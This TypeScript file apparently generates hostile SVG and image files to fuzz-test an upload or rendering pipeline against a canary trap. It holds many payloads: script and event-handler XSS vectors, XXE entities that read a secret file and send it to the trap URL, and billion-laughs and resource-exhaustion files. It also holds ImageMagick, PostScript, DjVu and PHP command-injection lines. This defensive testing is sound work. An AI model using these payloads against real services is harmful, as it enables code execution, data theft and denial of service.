import { gzipSync } from 'node:zlib';
import { SCRIPT, type Dice, type HostileKinds } from './hostile-pictures.ts';

/** Where it would be seen that something of a file runs, or that somebody asks for what it names. */
export interface Trap {
  /** Of a server that nobody may ask: each file asks for its own number. */
  url: string;
  /** Of a folder in which nobody may write. */
  folder: string;
  /** Of a file that nobody may read, and what it holds. */
  secret: { path: string; text: string };
}

/** One at least, of which one is picked. */
type Some<Thing> = readonly [Thing, ...Thing[]];

const NAMESPACES =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events" xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:own="http://example.com/editor"';
const RECT = '<rect width="60" height="40" fill="#a00"/>';

/** A call that nothing may make. */
const CALL = 'alert(&quot;a hostile upload runs&quot;)';

/** By which parts of an SVG run something. */
const SCRIPTS: Some<string> = [
  SCRIPT,
  `<script><![CDATA[${CALL}]]></script>`,
  `<script type="text/ecmascript" href="data:text/javascript,${CALL}"/>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<h:script>${CALL}</h:script>`,
  `<s:script xmlns:s="http://www.w3.org/2000/svg">${CALL}</s:script>`,
  `<g xmlns="http://www.w3.org/1999/xhtml"><script>${CALL}</script></g>`,
  `<own:script>${CALL}</own:script>`,
  `<rect onclick="${CALL}" width="9" height="9"/>`,
  `<rect ONLOAD="${CALL}" width="9" height="9"/>`,
  `<rect own:onload="${CALL}" width="9" height="9"/>`,
  `<g onfocusin="${CALL}" tabindex="0" autofocus="">${RECT}</g>`,
  `<animate onbegin="${CALL}" attributeName="x" dur="1s"/>`,
  `<set attributeName="onmouseover" to="${CALL}"/>`,
  `<set attributeName="href" to="javascript:${CALL}"/>`,
  `<a href="javascript:${CALL}">${RECT}</a>`,
  `<a xlink:href=" java&#9;script:${CALL}">${RECT}</a>`,
  `<a href="data:text/html,${CALL}">${RECT}</a>`,
  `<use href="data:image/svg+xml,${encodeURIComponent(SCRIPT)}#a"/>`,
  `<use href="javascript:${CALL}"/>`,
  `<handler type="text/ecmascript" ev:event="load">${CALL}</handler>`,
  `<g><ev:listener event="load" handler="#a"/></g>`,
  `<foreignObject width="9" height="9"><h:body onload="${CALL}"><h:script>${CALL}</h:script></h:body></foreignObject>`,
  `<foreignObject><h:iframe srcdoc="${CALL}"/></foreignObject>`,
  `<style>rect{behavior:url(#a);width:expression(${CALL})}</style>`,
  `<style><![CDATA[</style>${SCRIPT}<style>]]></style>`,
  `<title></title>${SCRIPT}<title></title>`,
  `<desc>${SCRIPT}</desc>`,
  `<metadata>${SCRIPT}</metadata>`,
];

/** By which parts of an SVG refer to something else. */
const REFERENCES: Some<(to: string) => string> = [
  (to) => `<image href="${to}" width="60" height="40"/>`,
  ...['href', 'xlink:href', 'src', 'xml:base', 'own:href'].flatMap((name) => [
    (to: string) => `<image ${name}="${to}" width="60" height="40"/>`,
    (to: string) => `<use ${name}="${to}#a" width="60" height="40"/>`,
    (to: string) => `<linearGradient id="x" ${name}="${to}#a"/><rect fill="url(#x)" width="9"/>`,
    (to: string) => `<pattern id="x" ${name}="${to}#a"/><rect fill="url(#x)" width="9"/>`,
    (to: string) => `<script ${name}="${to}"/>`,
    (to: string) => `<filter id="x"><feImage ${name}="${to}"/></filter>`,
    (to: string) => `<a ${name}="${to}">${RECT}</a>`,
    (to: string) => `<text><textPath ${name}="${to}#a">a</textPath></text>`,
    (to: string) => `<text><tref ${name}="${to}#a"/></text>`,
    (to: string) => `<color-profile name="x" ${name}="${to}"/>`,
    (to: string) =>
      `<rect width="9"><animateMotion><mpath ${name}="${to}#a"/></animateMotion></rect>`,
    (to: string) => `<g ${name}="${to}">${RECT}</g>`,
  ]),
  ...['fill', 'stroke', 'clip-path', 'mask', 'filter', 'marker-end', 'cursor'].flatMap((name) => [
    (to: string) => `<path d="M0 0h9v9" ${name}="url(${to}#a)"/>`,
    (to: string) => `<path d="M0 0h9v9" ${name}="url( '${to}#a' ) red"/>`,
    (to: string) => `<path d="M0 0h9v9" style="${name}:url(${to}#a)"/>`,
    (to: string) => `<path d="M0 0h9v9" style="${name}:/**/URL(&quot;${to}#a&quot;)"/>`,
    (to: string) => `<path d="M0 0h9v9" style="${name}:u\\72l(${to}#a)"/>`,
    (to: string) => `<style>path{${name}:url(${to}#a)}</style><path d="M0 0h9v9"/>`,
    (to: string) => `<path d="M0 0h9v9" style="${name}:image-set('${to}' 1x)"/>`,
  ]),
  (to) => `<style>@import "${to}";</style>`,
  (to) => `<style>@import url(${to});</style>`,
  (to) => `<style><![CDATA[@\\69mport '${to}';]]></style>`,
  (to) => `<style>@font-face{font-family:x;src:url(${to})}</style><text font-family="x">a</text>`,
  (to) => `<style>@namespace x url(${to});</style>`,
  (to) => `<style>rect{background:url(${to});-moz-binding:url(${to}#a)}</style>`,
  (to) =>
    `<image href="data:image/svg+xml,${encodeURIComponent(`<svg ${NAMESPACES}><image href="${to}"/></svg>`)}" width="60" height="40"/>`,
  (to) => `<set attributeName="href" to="${to}"/>`,
  (to) => `<image width="9" height="9"><animate attributeName="href" values="${to}"/></image>`,
  (to) => `<foreignObject width="9" height="9"><h:img src="${to}"/></foreignObject>`,
  (to) =>
    `<foreignObject><h:link rel="stylesheet" href="${to}"/><h:object data="${to}"/></foreignObject>`,
  (to) => `<h:img src="${to}"/>`,
  (to) => `<video src="${to}"/><audio src="${to}"/>`,
  (to) => `<xi:include href="${to}" parse="text"/>`,
  (to) =>
    `<font><font-face><font-face-src><font-face-uri href="${to}"/></font-face-src></font-face></font>`,
  (to) => `<rect href="${to}" width="60" height="40"/>`,
  (to) => `<svg href="${to}" viewBox="0 0 9 9">${RECT}</svg>`,
];

/** Forms of an address: of the trap, of a file, and of programs that draw. */
const ADDRESSES: Some<(to: string, trap: Trap) => string> = [
  (to) => to,
  (to) => to,
  (to) => to,
  (to) => to.replace('http:', ''),
  (to) => to.replace('http:', 'HTTP:'),
  (to) => `\n ${to}`,
  (to) => to.replaceAll('t', '&#116;'),
  (_, { secret }) => secret.path,
  (_, { secret }) => `file://${secret.path}`,
  (_, { secret }) => `text:${secret.path}`,
  (to) => `msl:${to}`,
  (_, { folder }) => `|touch ${folder}/ran`,
];

/** What surrounds a part, so that it may be overlooked. */
const PLACES: Some<(part: string) => string> = [
  (part) => part,
  (part) => part,
  (part) => `<g>${part}</g>`,
  (part) => `<defs>${part}</defs>`,
  (part) => `<symbol id="s">${part}</symbol><use href="#s" width="9" height="9"/>`,
  (part) => `<clipPath id="c">${part}${RECT}</clipPath><g clip-path="url(#c)">${RECT}</g>`,
  (part) => `<metadata>${part}</metadata>`,
  (part) => `<desc>${part}</desc>`,
  (part) => `<title>${part}</title>`,
  (part) => `<own:view>${part}</own:view>`,
  (part) => `<filter id="f">${part}</filter>`,
  (part) => `<mask id="m">${part}</mask>`,
  (part) => `<pattern id="p">${part}</pattern>`,
  (part) => `<svg viewBox="0 0 9 9">${part}</svg>`,
  (part) => `<g display="none" visibility="hidden" opacity="0">${part}</g>`,
  (part) => `<switch>${part}</switch>`,
  (part) => `<!-- ${part.replaceAll('--', '- -')} -->`,
  (part) => `<desc><![CDATA[${part.replaceAll(']]>', ']] >')}]]></desc>`,
];

const svgWith = (inner: string, attributes = 'viewBox="0 0 60 40"') =>
  `<svg ${NAMESPACES} ${attributes}>${RECT}<g id="a">${RECT}</g>${inner}</svg>`;

/** What stands before the drawing. */
const PROLOGUES: Some<(to: string, trap: Trap) => string> = [
  (to) => `<?xml-stylesheet href="${to}"?>`,
  (to) => `<?xml-stylesheet type="text/xsl" href="${to}"?>`,
  (to) => `<?php system('curl ${to}') ?>`,
  (to) => `<!DOCTYPE svg SYSTEM "${to}">`,
  (to) => `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${to}">`,
  (to) => `<!DOCTYPE svg [<!ENTITY x SYSTEM "${to}">]>`,
  (to) => `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${to}">%x;]>`,
  (to) => `<!DOCTYPE svg SYSTEM "${to}" [<!ENTITY % x SYSTEM '${to}'>%x;]>`,
  (_, { secret }) => `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${secret.path}">]>`,
  (to, { secret }) =>
    `<!DOCTYPE svg [<!ENTITY % f SYSTEM "file://${secret.path}"><!ENTITY % x "<!ENTITY &#37; y SYSTEM '${to}?%f;'>">%x;%y;]>`,
  (to) => `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${CALL}" xlink:href CDATA "${to}">]>`,
  () => `<!DOCTYPE svg [<!ENTITY x "${SCRIPT.replaceAll('"', "'").replaceAll('<', '&#60;')}">]>`,
];

const times = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => make(index)).join('');

/** Parts of a small file of which a program makes very much, each of any size around its bound. */
const SWELLING: Some<(dice: Dice) => string> = [
  (dice) =>
    times(
      4 + dice.roll(12),
      (n) => `<g id="b${n + 1}">${`<use href="#${n ? `b${n}` : 'a'}"/>`.repeat(10)}</g>`,
    ) + '<use href="#b4"/>',
  (dice) => '<g>'.repeat(60 + dice.roll(5000)),
  (dice) => {
    const depth = 60 + dice.roll(80);
    return `${'<g opacity=".9">'.repeat(depth)}${RECT}${'</g>'.repeat(depth)}`;
  },
  (dice) => `<g opacity=".5">${RECT}${RECT}</g>`.repeat(150 + dice.roll(100)),
  (dice) => {
    const depth = 4 + dice.roll(4);
    return `${'<g opacity=".5"><rect width="9" height="9"/>'.repeat(depth)}${RECT.repeat(30)}${'</g>'.repeat(depth)}`.repeat(
      20 + dice.roll(20),
    );
  },
  (dice) => RECT.repeat(10_000 + dice.roll(60_000)),
  (dice) =>
    `<path stroke="red" d="M${times(2000 + dice.roll(8000), (n) => `${(n * 37) % 60} ${(n * 61) % 40} `)}"/>`,
  (dice) =>
    `<path d="M0 0h60" stroke="red" stroke-width="40" stroke-dasharray="${10 ** -dice.roll(6)}"/>`,
  (dice) =>
    `<linearGradient id="l" spreadMethod="repeat" x2=".0001">${'<stop offset=".5" stop-color="red"/><stop stop-color="blue"/>'.repeat(1 + dice.roll(300))}</linearGradient>${'<rect width="60" height="40" fill="url(#l)"/>'.repeat(1000 + dice.roll(1500))}`,
  (dice) =>
    `<clipPath id="k">${RECT.repeat(1 + dice.roll(50))}</clipPath>${`<g clip-path="url(#k)">${RECT}</g>`.repeat(1000 + dice.roll(1500))}`,
  (dice) =>
    times(
      20 + dice.roll(200),
      (n) => `<clipPath id="n${n}" clip-path="url(#n${n + 1})">${RECT}</clipPath>`,
    ) + `<g clip-path="url(#n0)">${RECT}</g>`,
  (dice) =>
    `<filter id="f"><feGaussianBlur stdDeviation="${10 ** dice.roll(8)}"/><feTurbulence baseFrequency="${10 ** dice.roll(8)}" numOctaves="${10 ** dice.roll(6)}"/></filter><rect filter="url(#f)" width="60" height="40"/>`,
  (dice) =>
    times(
      1 + dice.roll(9),
      (n) =>
        `<pattern id="q${n}" width=".01" height=".01"><rect fill="url(#q${n + 1})" width="60" height="40"/></pattern>`,
    ) + '<rect fill="url(#q0)" width="60" height="40"/>',
  (dice) => `<rect class="${'a'.repeat(1000 + dice.roll(2_000_000))}" width="9" height="9"/>`,
  (dice) => `<rect ${times(100 + dice.roll(2000), (n) => `a${n}="" `)}/>`,
  (dice) => `<desc>${'text '.repeat(dice.roll(2_000_000))}</desc>`,
  (dice) =>
    `<style>${times(200 + dice.roll(1500), (n) => `.a${n},rect{fill:red}`)}</style>${'<rect class="a1 a2 a3" width="9" height="9"/>'.repeat(3000)}`,
  (dice) => `<style>${'/*'.repeat(dice.roll(200_000))}</style>`,
  (dice) => `<g ${times(dice.roll(150), (n) => `xmlns:n${n}="a" `)}>`.repeat(90),
  (dice) => `<g transform="${'scale(1.5) '.repeat(dice.roll(2000))}">${RECT}</g>`,
  (dice) => `<g transform="scale(${10 ** dice.roll(40)})" stroke="red">${RECT}</g>`,
  (dice) =>
    `<rect width="${10 ** dice.roll(300)}" height="1e7" rx="9e6" stroke="red" stroke-width="9e6"/>`,
  (dice) =>
    `<circle cx="-1e${dice.roll(9)}" r="1e${dice.roll(9)}" stroke="red" stroke-dasharray="1 1"/>`,
  (dice) => `<path d="${`M0 0A1e6 1e6 0 1 1 9 9`.repeat(1 + dice.roll(3000))}" stroke="red"/>`,
  (dice) => `<text font-size="${10 ** dice.roll(8)}">${'a'.repeat(dice.roll(50_000))}</text>`,
];

/** Sizes of a whole drawing. */
const SIZES: Some<string> = [
  'width="1e7" height="1e7" viewBox="0 0 60 40"',
  'width="1e300" height="1"',
  'width="100000" height="100000"',
  'width="9999999" height="1" viewBox="0 0 60 40"',
  'viewBox="0 0 1 100000"',
  'viewBox="0 0 1e-7 1e-7"',
  'viewBox="-1e9 -1e9 2e9 2e9"',
  'viewBox="0 0 0 0"',
  'viewBox="0 0 60 -40"',
  'viewBox="0 0 NaN 40"',
  'width="60in" height="40in" viewBox="0 0 60000 40000"',
  'width="100%" height="100%"',
  'width="640" height="640" viewBox="0 0 60 40" preserveAspectRatio="none"',
  'viewBox="0 0 60 40" style="width:1e9px;overflow:visible" transform="scale(1e7)"',
];

const inUtf16 = (text: string) => Buffer.from(text, 'utf16le');

/** How a file may be written, beside as it is. */
const SPELLINGS: Some<(svg: string, dice: Dice) => Buffer | string> = [
  (svg) => `\ufeff${svg}`,
  (svg) => inUtf16(`\ufeff${svg}`),
  (svg) => inUtf16(svg),
  (svg) => inUtf16(`\ufeff${svg}`).swap16(),
  (svg) => `<?xml version="1.0" encoding="UTF-7"?>${svg.replaceAll('<', '+ADw-')}`,
  (svg) => `<?xml version="1.0" encoding="UTF-7"?>${svg}`,
  (svg) => Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${svg}\xfc`, 'latin1'),
  (svg) => `<?xml version="1.1"?>${svg.replace('>', '\u0085>')}`,
  (svg) => gzipSync(svg),
  (svg) => svg.replaceAll('<rect', '<\0rect'),
  (svg) => Buffer.concat([Buffer.from(svg), Buffer.from('c0bcff', 'hex')]),
  (svg, dice) => svg.slice(0, dice.roll(svg.length)),
  (svg, dice) => {
    const bytes = Buffer.from(svg);
    for (let count = 1 + dice.roll(9); count > 0; count -= 1) {
      bytes[dice.roll(bytes.length)] = dice.roll(256);
    }
    return bytes;
  },
  (svg) => svg.replaceAll('"', ''),
  (svg) =>
    svg.replaceAll('<svg', '<s:svg').replaceAll('</svg', '</s:svg').replace('xmlns=', 'xmlns:s='),
  (svg) => svg.replaceAll('svg', 'SVG'),
  (svg) => svg + svg,
  (svg) => `${svg}<!--${SCRIPT}-->`,
  (svg) => `<html><body>${svg}${SCRIPT}</body></html>`,
  (svg) => `${' \n'.repeat(40_000)}${svg}`,
  (svg) => `<!--${' '.repeat(70_000)}-->${svg}`,
  (svg) => svg.replaceAll('http://www.w3.org/2000/svg', 'http://www.w3.org/2000/sv&#103;'),
];

/** Files of other programs that draw, run or fetch: what they do with a picture of that name. */
const PROGRAMS: Some<(to: string, trap: Trap) => string> = [
  (to, { folder }) =>
    `push graphic-context\nviewbox 0 0 60 40\nimage over 0,0 0,0 '${to}"|touch "${folder}/ran'\npop graphic-context`,
  (to, { folder }) =>
    `<?xml version="1.0"?><image><read filename="${to}"/><write filename="${folder}/ran.png"/></image>`,
  (_, { folder }) => `%!PS\n(%pipe%touch ${folder}/ran) (w) file\nshowpage`,
  (_, { folder }) => `%!PS-Adobe-3.0 EPSF-3.0\n(${folder}/ran) (w) file closefile\nshowpage`,
  (to) => `%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(${to})>>>>endobj`,
  (_, { secret }) => `label:@${secret.path}`,
  (_, { folder }) => `AT&TFORM\0\0\0\0DJVUANTa(metadata (a "\\" . qx{touch ${folder}/ran} . \\""))`,
  (to) => `#EXTM3U\n#EXTINF:1,\n${to}\n#EXT-X-ENDLIST`,
  (_, { folder }) => `#!/bin/sh\ntouch ${folder}/ran\n`,
];

const placed = (dice: Dice, part: string) => svgWith(dice.pick(PLACES)(part));

/** Kinds of SVG, and of what is sent as one. */
export function hostileSvgs(trap: Trap): HostileKinds {
  const askFor = (dice: Dice, number: number) =>
    dice.pick(ADDRESSES)(`${trap.url}/${number}`, trap);
  const referring = (dice: Dice, number: number) =>
    placed(dice, dice.pick(REFERENCES)(askFor(dice, number)));
  return {
    'an SVG with a script': (dice) => placed(dice, dice.pick(SCRIPTS)),
    'an SVG that runs when it is loaded': (dice) =>
      svgWith('', `viewBox="0 0 60 40" ${dice.pick(['onload', 'onLoad', 'own:onload'])}="${CALL}"`),
    'an SVG that refers to elsewhere': referring,
    'an SVG that refers to elsewhere again': referring,
    'an SVG with something before it': (dice, number) => {
      const to = `${trap.url}/${number}`;
      return `${dice.pick(PROLOGUES)(to, trap)}${svgWith(dice.pick(['', '<desc>&x;</desc>', '&x;']))}`;
    },
    'an SVG that swells': (dice) => svgWith(dice.pick(SWELLING)(dice)),
    'an SVG of many entities': (dice) => {
      const entities = times(
        3 + dice.roll(9),
        (n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`,
      );
      return `<!DOCTYPE svg [<!ENTITY e0 "${'ha'.repeat(1 + dice.roll(50_000))}">${entities}]>${svgWith(`<desc>${'&e3;'.repeat(1 + dice.roll(5000))}</desc>`)}`;
    },
    'an SVG of a strange size': (dice) => svgWith(RECT, dice.pick(SIZES)),
    'an SVG with what is left out': (dice, number) => {
      const to = `${trap.url}/${number}`;
      return svgWith(
        `<!--${SCRIPT}--><title>${CALL} ${to}</title><desc own:href="${to}">${to}</desc><own:a href="${to}" src="${to}"/>` +
          `<g data-x="${CALL}" aria-label="${to}" own:style="url(${to})" xml:base="${to}" id="&quot;&gt;${CALL}">${RECT}</g>` +
          `<filter id="f"><feImage href="${dice.pick([to, '#a'])}"/></filter><?own ${to}?>${to}`,
      );
    },
    'an SVG in a strange spelling': (dice, number) => {
      const svg = dice.roll(2) === 0 ? svgWith('') : referring(dice, number);
      return Buffer.from(dice.pick(SPELLINGS)(svg, dice));
    },
    'a file that other programs run': (dice, number) =>
      dice.pick(PROGRAMS)(`${trap.url}/${number}`, trap),
    'an SVG with a file behind it': (dice, number) =>
      `${svgWith('')}${dice.pick(['\0', '\n', '<!---->'])}${dice.pick(PROGRAMS)(`${trap.url}/${number}`, trap)}`,
  };
}
